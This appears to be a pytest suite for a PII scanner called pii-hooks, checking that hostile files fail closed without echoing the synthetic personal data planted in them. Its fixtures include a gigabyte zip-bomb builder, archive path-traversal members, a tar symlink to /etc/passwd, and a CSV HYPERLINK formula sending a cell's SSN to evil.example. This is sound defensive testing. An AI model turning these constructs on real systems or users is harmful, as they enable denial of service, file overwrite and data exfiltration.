"""Hostile input: every file either gets a verdict or fails closed, with a reason and a way out.

Each case builds one file at test time and runs ``pii-hooks scan`` on it twice
(text and JSON), asserting the exit code, the reason a user reads (the
``why:`` line and the JSON finding), that no traceback reaches stdout or
stderr (captured at the file-descriptor level, so a library writing to fd 2
is seen too), and that no synthetic value planted in the file is printed.

Limits (``readers.Limits``, ``limits:`` in .pii-hooks.yaml) are tested both
ways: hit, the file blocks naming the limit; raised in the configuration, the
same file is scanned and passes.
"""
from __future__ import annotations

import io
import json
import os
import random
import struct
import subprocess
import sys
import tarfile
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import pytest

from pii_hooks.cli import main
from tests.conftest import run_git
from tests.fixtures_build import (
    PEOPLE,
    PEOPLE_RAW,
    Sheet,
    csv_text,
    encrypted_xls,
    ole_file,
    parquet_bytes,
    sqlite_bytes,
    tar_bytes,
    xlsx_bytes,
    zip_bytes,
)

#: Planted in hostile files: none may be printed, in any format.
SSN = '512-44-6789'
EMAIL = 'thaddeus.brightwater@gmail.com'
PLANTED = (SSN, EMAIL, 'brightwater', 'evil.example', 'HYPERLINK', *PEOPLE_RAW)
PLANTED_BYTES = f'{SSN},{EMAIL}'.encode()
PRODUCTS = 'sku,name,price,qty\n' + ''.join(f'A-{i},Blue Widget,9.99,{i % 50}\n'
                                            for i in range(100, 400))


class Scan(NamedTuple):
    code: int
    text: str          # text report + stderr
    report: dict[str, object]
    output: str        # everything printed, both runs, stdout and stderr


def scan(capfd: pytest.CaptureFixture[str], path: Path | str, *extra: str) -> Scan:
    capfd.readouterr()
    code_text = main(['scan', *extra, str(path)])
    out_text, err_text = capfd.readouterr()
    code_json = main(['scan', '--format', 'json', *extra, str(path)])
    out_json, err_json = capfd.readouterr()
    assert code_text == code_json
    output = out_text + err_text + out_json + err_json
    assert 'Traceback' not in output
    assert 'internal error' not in output
    for value in PLANTED:
        assert value not in output, 'a planted value was printed'
    return Scan(code_text, out_text + err_text, json.loads(out_json), output)


def blocking(result: Scan) -> list[dict[str, object]]:
    found = result.report['findings']
    assert isinstance(found, list)
    return [f for f in found if f['severity'] == 'block']


def assert_fails_closed(result: Scan, reason: str, category: str = 'unreadable') -> None:
    """Exit 1, a blocking finding of the category whose reason says ``reason``, and a fix."""
    assert result.code == 1, result.text
    matches = [f for f in blocking(result)
               if f['category'] == category and reason in str(f['reason'])]
    assert matches, f'no blocking {category} finding saying {reason!r}: {result.report}'
    assert all(f['fix'] for f in matches)
    assert f'why: {matches[0]["reason"]}' in result.text
    assert '\n' not in str(matches[0]['reason'])


# --- builders ------------------------------------------------------------------------

def planted_random(extension: str, size: int = 4096) -> bytes:
    """Seeded random bytes with synthetic values in the middle."""
    data = random.Random(extension).randbytes(size)
    return data[:size // 2] + PLANTED_BYTES + data[size // 2:]


def truncated(data: bytes) -> bytes:
    return data[:len(data) // 2]


def people_csv() -> bytes:
    rows = [['Name', 'SSN', 'Email']] + [[r[0], r[1], r[2]] for r in PEOPLE[1:]]
    rows[1] = ['Thaddeus Brightwater', SSN, EMAIL]
    return csv_text(rows).encode()


def people_xlsx() -> bytes:
    return xlsx_bytes([Sheet('People', [['Name', 'SSN', 'Email'],
                                        ['Thaddeus Brightwater', SSN, EMAIL]])])


def encrypted_office() -> bytes:
    """What Office writes for a password-protected workbook: an OLE2 compound file holding
    'EncryptionInfo' (version 4.4, agile) and 'EncryptedPackage' (size, then ciphertext)."""
    info = struct.pack('<HHI', 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    package = struct.pack('<Q', 2048) + random.Random(7).randbytes(2048)
    return ole_file({'EncryptionInfo': info, 'EncryptedPackage': package})


def encrypted_ods() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w') as z:
        z.writestr('mimetype', 'application/vnd.oasis.opendocument.spreadsheet')
        z.writestr('content.xml', random.Random(3).randbytes(512))
        z.writestr('META-INF/manifest.xml', (
            '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
            'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path='
            '"content.xml" manifest:media-type="text/xml"><manifest:encryption-data '
            'manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"><manifest:algorithm '
            'manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
            '</manifest:encryption-data></manifest:file-entry></manifest:manifest>'))
    return buffer.getvalue()


def encrypted_member_zip() -> bytes:
    data = bytearray(zip_bytes({'people.csv': people_csv()}))
    data[6] |= 1                                     # local header: encrypted flag
    central = data.rfind(b'PK\x01\x02')
    data[central + 8] |= 1                           # central directory: the same
    return bytes(data)


def zeros_zip(total: int, name: str = 'zeros.csv') -> bytes:
    """A zip whose one member inflates to ``total`` zero bytes, built in a fraction of a second.

    A MiB of zeros deflated and ended by a full flush leaves the stream
    byte-aligned with no reference behind it, so the same bytes can be
    repeated: 1 GiB of zeros is 1024 copies of a 1 KB piece.
    """
    block = 1 << 20
    assert total % block == 0
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflate.compress(bytes(block)) + deflate.flush(zlib.Z_FULL_FLUSH)
    body = piece * (total // block) + deflate.flush()
    crc = 0
    zeros = bytes(block)
    for _ in range(total // block):
        crc = zlib.crc32(zeros, crc)
    raw = name.encode()
    local = struct.pack('<4s5H3L2H', b'PK\x03\x04', 20, 0, 8, 0, 0x21, crc, len(body), total,
                        len(raw), 0) + raw
    central = struct.pack('<4s6H3L5H2L', b'PK\x01\x02', 20, 20, 0, 8, 0, 0x21, crc, len(body),
                          total, len(raw), 0, 0, 0, 0, 0, 0) + raw
    end = struct.pack('<4s4H2LH', b'PK\x05\x06', 0, 0, 1, 1, len(central),
                      len(local) + len(body), 0)
    return local + body + central + end


def billion_rows_xlsx(with_person: bool) -> bytes:
    last = 1_000_000_000
    cells = (f'<row r="{last}"><c r="A{last}" t="inlineStr"><is><t>Thaddeus Brightwater</t></is>'
             f'</c><c r="B{last}" t="inlineStr"><is><t>{SSN}</t></is></c></row>'
             if with_person else f'<row r="{last}"><c r="A{last}"><v>7</v></c></row>')
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
             f'openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD{last}"/>'
             '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c>'
             f'<c r="B1" t="inlineStr"><is><t>SSN</t></is></c></row>{cells}</sheetData>'
             '</worksheet>')
    return xlsx_bytes([Sheet('People', [['x']])], parts={'xl/worksheets/sheet1.xml': sheet})


def nested_json(levels: int) -> bytes:
    return b'[' * levels + f'"{SSN}"'.encode() + b']' * levels


def formula_csv() -> bytes:
    return ('Name,SSN,Link\nThaddeus Brightwater,' + SSN + ',"=HYPERLINK(""http://evil.example/?'
            '""&B2,""click"")"\n').encode()


# --- every hostile case: fails closed with its reason ----------------------------------

DATA_EXTENSIONS = ('.csv', '.json', '.jsonl', '.yaml', '.xlsx', '.xls', '.ods', '.parquet',
                   '.feather', '.sqlite', '.db', '.sql', '.zip', '.gz', '.bz2', '.xz', '.tar')
#: What each reader says about random bytes named for it.
RANDOM_REASONS = {
    '.csv': 'encoding', '.json': 'encoding', '.jsonl': 'encoding', '.yaml': 'encoding',
    '.sql': 'encoding', '.xlsx': 'not a readable XLSX package', '.xls': 'not an XLS workbook',
    '.ods': 'not a readable ODS package', '.parquet': 'not a readable Parquet file',
    '.feather': 'not a readable Feather', '.sqlite': 'not a SQLite database',
    '.db': 'not a SQLite database', '.zip': 'not a readable zip archive',
    '.gz': 'not a valid .gz file', '.bz2': 'not a valid .bz2 file', '.xz': 'not a valid .xz file',
    '.tar': 'not a readable tar archive',
}


@pytest.mark.parametrize('extension', DATA_EXTENSIONS)
def test_random_bytes_fail_closed(extension: str, tmp_path: Path,
                                  capfd: pytest.CaptureFixture[str],
                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / f'random{extension}'
    path.write_bytes(planted_random(extension))
    assert_fails_closed(scan(capfd, path), RANDOM_REASONS[extension])


class Case(NamedTuple):
    name: str                       # the file name (its extension picks the reader)
    build: Callable[[Path], bytes]
    reason: str                     # part of the blocking finding's reason
    category: str = 'unreadable'


CASES = [
    Case('truncated.xlsx', lambda t: truncated(people_xlsx()), 'corrupt or truncated'),
    Case('truncated.zip', lambda t: truncated(zip_bytes({'p.csv': people_csv()})),
         'not a readable zip archive'),
    Case('truncated.parquet', lambda t: truncated(parquet_bytes(PEOPLE)),
         'not a readable Parquet file'),
    Case('truncated.sqlite', lambda t: truncated(sqlite_bytes(t, {'people': PEOPLE})),
         'corrupt or encrypted SQLite database'),
    Case('truncated.tar', lambda t: truncated(tar_bytes({'p.csv': people_csv() * 20})),
         'corrupt or truncated'),
    Case('password.xlsx', lambda t: encrypted_office(), 'encrypted or password-protected'),
    Case('password.xlsm', lambda t: encrypted_office(), 'encrypted or password-protected'),
    Case('password.xls', lambda t: encrypted_office(), 'encrypted or password-protected'),
    Case('filepass.xls', lambda t: encrypted_xls(PEOPLE), 'encrypted or password-protected'),
    Case('password.ods', lambda t: encrypted_ods(), 'encrypted or password-protected'),
    Case('password-member.zip', lambda t: encrypted_member_zip(), 'an encrypted archive member'),
    Case('traversal.zip', lambda t: zip_bytes({'../../x.csv': PRODUCTS}),
         'leaves the archive folder', 'hidden_structure'),
    Case('traversal.tar', lambda t: tar_bytes({'../../x.csv': PRODUCTS.encode()}),
         'leaves the archive folder', 'hidden_structure'),
    Case('deep.json', lambda t: nested_json(200_000), 'nested too deeply'),
    Case('nul.csv', lambda t: b'\x00' * 300 + PLANTED_BYTES + b'\x00' * 300,
         'binary content (NUL bytes)'),
    Case('undefined.csv', lambda t: b'name,ssn\n' + bytes([0x81, 0x8d, 0x8f, 0x90]) * 20
         + PLANTED_BYTES, 'unknown text encoding'),
    Case('page.xls', lambda t: b'<html><body><table><tr><td>' + PLANTED_BYTES
         + b'</td></tr></table></body></html>', 'an HTML or XML page named .xls'),
]


@pytest.mark.parametrize('case', CASES, ids=[c.name for c in CASES])
def test_hostile_file_fails_closed(case: Case, tmp_path: Path,
                                   capfd: pytest.CaptureFixture[str],
                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / case.name
    path.write_bytes(case.build(tmp_path))
    assert_fails_closed(scan(capfd, path), case.reason, case.category)


# --- hostile files that still get a real verdict ----------------------------------------

VERDICTS = [
    # damaged text still read: the values in it are judged (and masked)
    Case('nul-inside.csv', lambda t: people_csv().replace(b'Name', b'Na\x00me'), 'social security'),
    Case('invalid-utf8.csv', lambda t: people_csv() + b'\xff\xfe\xfd broken,\xc3\x28,x\n',
         'social security'),
    Case('formula.csv', lambda t: formula_csv(), 'social security', 'ssn'),
    # a sheet that claims a billion rows allocates nothing for the empty ones
    Case('billion.xlsx', lambda t: billion_rows_xlsx(with_person=True), 'social security',
         'ssn'),
]


@pytest.mark.parametrize('case', VERDICTS, ids=[c.name for c in VERDICTS])
def test_damaged_text_is_still_judged(case: Case, tmp_path: Path,
                                      capfd: pytest.CaptureFixture[str],
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / case.name
    path.write_bytes(case.build(tmp_path))
    started = time.monotonic()
    result = scan(capfd, path)
    assert time.monotonic() - started < 10
    assert result.code == 1
    assert any(f['category'] == 'ssn' for f in blocking(result))
    assert '***-**-6789' in result.output           # masked, as every report shows values


def test_billion_row_claim_without_data_passes_fast(tmp_path: Path,
                                                    capfd: pytest.CaptureFixture[str],
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / 'claims.xlsx'
    path.write_bytes(billion_rows_xlsx(with_person=False))
    started = time.monotonic()
    assert scan(capfd, path).code == 0
    assert time.monotonic() - started < 5


def test_formula_cell_is_never_echoed_or_evaluated(tmp_path: Path,
                                                   capfd: pytest.CaptureFixture[str],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / 'link.csv'
    path.write_text('Email\n"=HYPERLINK(""mailto:' + EMAIL + '"",""x"")"\n=1+1\n',
                    encoding='utf-8')
    result = scan(capfd, path)                     # asserts nothing planted is printed
    assert '=1+1' not in result.output


@pytest.mark.parametrize('extension', DATA_EXTENSIONS)
def test_empty_file_passes(extension: str, tmp_path: Path, capfd: pytest.CaptureFixture[str],
                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / f'empty{extension}'
    path.write_bytes(b'')
    result = scan(capfd, path)
    assert result.code == 0
    assert result.report['findings'] == []


def test_symlink_outside_the_repository_is_not_followed(git_repo: Path, tmp_path: Path,
                                                        capfd: pytest.CaptureFixture[str]
                                                        ) -> None:
    outside = tmp_path / 'outside'
    outside.mkdir()
    (outside / 'people.csv').write_bytes(people_csv())
    (git_repo / 'data').mkdir()
    (git_repo / 'data' / 'people.csv').symlink_to(outside / 'people.csv')
    (git_repo / 'linked').symlink_to(outside, target_is_directory=True)
    run_git(git_repo, 'add', 'data/people.csv', 'linked')
    for args in ('data/people.csv', '.', 'linked', '--staged', '--all-files'):
        result = scan(capfd, args)
        assert result.code == 0, args
        assert result.report['findings'] == [], args


# --- the 50 MB single line ---------------------------------------------------------------

# VmHWM, not ru_maxrss: after vfork+exec, ru_maxrss starts at the parent's (pytest's) peak
_RSS_RUNNER = ('import sys\nfrom pii_hooks.cli import main\ncode = main(sys.argv[1:])\n'
               'peak = next(line.split()[1] for line in open("/proc/self/status") '
               'if line.startswith("VmHWM:"))\n'
               'sys.stderr.write(f"\\nmax-rss-kib {peak}\\n")\nsys.exit(code)\n')


def run_measured(*args: str, cwd: Path) -> tuple[int, str, float, int]:
    """The CLI in its own process: exit code, stdout+stderr, seconds, peak RSS in MiB."""
    started = time.monotonic()
    proc = subprocess.run([sys.executable, '-c', _RSS_RUNNER, *args], cwd=cwd,
                          capture_output=True, text=True, check=False, timeout=120)
    seconds = time.monotonic() - started
    rss = int(proc.stderr.rsplit('max-rss-kib ', 1)[1].split()[0]) // 1024
    return proc.returncode, proc.stdout + proc.stderr, seconds, rss


ONE_LINE_BYTES = 50 * 1024 * 1024


@pytest.mark.parametrize('kind', ['values', 'one-cell'])
def test_fifty_megabyte_single_line_is_bounded(kind: str, tmp_path: Path) -> None:
    """A 50 MB line: of values (4.4 million columns) it hits max_columns at once; as one cell
    it is read and judged.  Before the limit the first took 350 s and 20 GB."""
    path = tmp_path / 'one-line.csv'
    if kind == 'values':
        path.write_bytes(f'{SSN},'.encode() * (ONE_LINE_BYTES // 12))
    else:
        path.write_bytes(b'x' * ONE_LINE_BYTES)
    code, output, seconds, rss = run_measured('scan', str(path), cwd=tmp_path)
    assert 'Traceback' not in output and SSN not in output
    assert seconds < 10, seconds
    assert rss < 1024, rss             # measured: 376 MiB (values), 581 MiB (one cell)
    if kind == 'values':
        assert code == 1 and 'limit max_columns' in output
    else:
        assert code == 0


# --- limits, both ways ---------------------------------------------------------------------

def nested_zip(levels: int) -> bytes:
    data = zip_bytes({'products.csv': PRODUCTS})
    for _ in range(levels):
        data = zip_bytes({'inner.zip': data})
    return data


def deep_json(levels: int) -> bytes:
    return (b'{"a":' * levels) + b'1' + b'}' * levels


def compressible_zip() -> bytes:
    """A genuine CSV (no people) that compresses over 200 times: it trips max_ratio."""
    rows = 'sku,name,price\n' + 'A-100,Blue Widget,9.99\n' * 60_000
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr('catalogue.csv', rows)
    return buffer.getvalue()


def slow_csv() -> bytes:
    return ('sku,name,price,qty\n' + ''.join(f'B-{i},Widget number {i},{i % 97}.50,{i % 13}\n'
                                             for i in range(20_000))).encode()


class Limit(NamedTuple):
    limit: str
    name: str
    build: Callable[[], bytes]
    low: object                 # the value that makes the file hit the limit
    high: object                # a raised value that lets it through


LIMITS = [
    Limit('max_file_bytes', 'products.csv', lambda: PRODUCTS.encode(), 1000, 10_000_000),
    Limit('max_uncompressed_bytes', 'two.zip',
          lambda: zip_bytes({'a.csv': PRODUCTS * 20, 'b.csv': PRODUCTS * 20}), 200_000,
          10_000_000),
    Limit('max_ratio', 'catalogue.zip', compressible_zip, 200, 100_000),
    Limit('max_depth', 'nested.zip', lambda: nested_zip(3), 2, 5),
    Limit('max_nesting', 'deep.json', lambda: deep_json(60), 20, 1000),
    Limit('max_rows', 'products.csv', lambda: PRODUCTS.encode(), 100, 1000),
    Limit('max_members', 'many.zip',
          lambda: zip_bytes({f'part{i}.csv': PRODUCTS for i in range(12)}), 10, 100),
    Limit('max_columns', 'wide.csv',
          lambda: (','.join(f'col{i}' for i in range(80)) + '\n'
                   + ','.join(str(i) for i in range(80)) + '\n').encode(), 50, 100),
    Limit('max_seconds', 'slow.csv', slow_csv, 0.05, 120),
]


@pytest.mark.parametrize('case', LIMITS, ids=[c.limit for c in LIMITS])
def test_limit_blocks_then_passes_when_raised(case: Limit, git_repo: Path,
                                              capfd: pytest.CaptureFixture[str]) -> None:
    path = git_repo / case.name
    path.write_bytes(case.build())
    config = git_repo / '.pii-hooks.yaml'
    config.write_text(f'limits: {{{case.limit}: {case.low}}}\n', encoding='utf-8')
    assert_fails_closed(scan(capfd, case.name), f'limit {case.limit}')
    config.write_text(f'limits: {{{case.limit}: {case.high}}}\n', encoding='utf-8')
    result = scan(capfd, case.name)
    assert result.code == 0, result.text
    assert result.report['findings'] == []


def test_default_limits_stop_a_gigabyte_bomb_quickly(tmp_path: Path,
                                                     capfd: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / 'bomb.zip'
    path.write_bytes(zeros_zip(1 << 30))
    assert path.stat().st_size < 2 * 1024 * 1024
    started = time.monotonic()
    assert_fails_closed(scan(capfd, path), 'limit max_ratio')
    assert time.monotonic() - started < 10


def test_wall_clock_interrupts_inside_one_batch(tmp_path: Path,
                                                capfd: pytest.CaptureFixture[str],
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """One batch can take seconds (a 20 MB cell); the alarm stops it, not the next batch."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / '.pii-hooks.yaml').write_text('limits: {max_seconds: 0.3}\n', encoding='utf-8')
    path = tmp_path / 'cell.csv'
    path.write_bytes(b'note\n"' + b'word ' * (4 * 1024 * 1024) + b'"\n')
    started = time.monotonic()
    assert_fails_closed(scan(capfd, path), 'limit max_seconds')
    assert time.monotonic() - started < 4        # two runs, each stopped at 0.3 s


# --- reader failures never print the values around them ----------------------------------

@pytest.mark.parametrize('name, data', [
    ('broken.json', b'{"ssn": "' + SSN.encode() + b'", "email": "' + EMAIL.encode() + b'" ]'),
    ('broken.yaml', f'people:\n  - ssn: "{SSN}"\n    email: [{EMAIL}\n  bad: : :\n'.encode()),
    ('broken.jsonl', f'{{"ssn": "{SSN}"}}\n{{"email": "{EMAIL}"\n'.encode()),
    ('broken.sql', f"INSERT INTO p VALUES ('{SSN}', '{EMAIL}".encode() + b'\xff\xfe' * 40),
    ('broken.csv', b'ssn,email\n"' + SSN.encode() + b'"x,' + EMAIL.encode() + b'\n' + b'\x00' * 64),
])
def test_reader_errors_quote_no_value(name: str, data: bytes, tmp_path: Path,
                                      capfd: pytest.CaptureFixture[str],
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / name
    path.write_bytes(data)
    result = scan(capfd, path)              # no planted value in stdout or stderr
    assert result.code == 1


def test_member_names_shaped_like_values_are_masked(tmp_path: Path,
                                                    capfd: pytest.CaptureFixture[str],
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A member named after a person's SSN that trips a member limit: the name is a value."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / '.pii-hooks.yaml').write_text('limits: {max_file_bytes: 5000}\n',
                                              encoding='utf-8')
    path = tmp_path / 'records.zip'
    path.write_bytes(zip_bytes({f'{SSN}.csv': PRODUCTS}))
    assert_fails_closed(scan(capfd, path), 'limit max_file_bytes')


def test_tar_member_symlink_out_of_the_archive_blocks(tmp_path: Path,
                                                      capfd: pytest.CaptureFixture[str],
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode='w') as tar:
        info = tarfile.TarInfo('data/link.csv')
        info.type = tarfile.SYMTYPE
        info.linkname = '../../../etc/passwd'
        tar.addfile(info)
    path = tmp_path / 'site.tar'
    path.write_bytes(buffer.getvalue())
    assert_fails_closed(scan(capfd, path), 'leaves the archive folder', 'hidden_structure')


def test_no_temporary_file_is_left_by_failing_readers(tmp_path: Path,
                                                      capfd: pytest.CaptureFixture[str],
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile
    monkeypatch.chdir(tmp_path)
    temp = tmp_path / 'tmp'
    temp.mkdir()
    monkeypatch.setenv('TMPDIR', str(temp))
    monkeypatch.setattr(tempfile, 'tempdir', None)
    (tmp_path / 'a.sqlite').write_bytes(truncated(sqlite_bytes(tmp_path, {'people': PEOPLE})))
    (tmp_path / 'b.zip').write_bytes(zeros_zip(256 << 20))
    (tmp_path / 'c.csv.gz').write_bytes(random.Random(1).randbytes(64))
    for name in ('a.sqlite', 'b.zip', 'c.csv.gz'):
        assert scan(capfd, name).code == 1
    assert os.listdir(temp) == []
